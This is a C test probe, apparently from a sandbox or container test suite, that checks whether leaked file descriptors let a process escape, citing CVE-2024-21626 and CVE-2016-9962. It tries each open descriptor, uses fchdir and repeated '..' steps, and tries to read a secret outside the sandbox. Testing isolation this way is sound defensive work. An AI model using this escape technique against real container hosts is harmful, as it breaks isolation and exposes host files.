/* SPDX-License-Identifier: Apache-2.0 */
/*
 * wall: descriptors of the caller are closed
 * cve: CVE-2024-21626, CVE-2016-9962
 * off: --keep-fd 9
 * as: user root
 * setup: leak
 *
 * The caller has a directory of the host open as descriptor 9: whatever is
 * open is tried as the way to a file below it, also by fchdir(2) and "..".
 */
#include "attack.h"

int main(void)
{
	int tried = 0;

	for (int fd = 3; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		tried++;
		if (reads_secret(fd, "outside"))
			through("a file below descriptor %d", fd);
		if (fchdir(fd))
			continue;
		for (int up = 0; up < 8; up++, (void)!chdir(".."))
			if (reads_secret(AT_FDCWD, "outside"))
				through("a file %d above descriptor %d", up,
					fd);
	}
	errno = EBADF;
	refused("%d descriptors besides 0 to 2", tried);
}
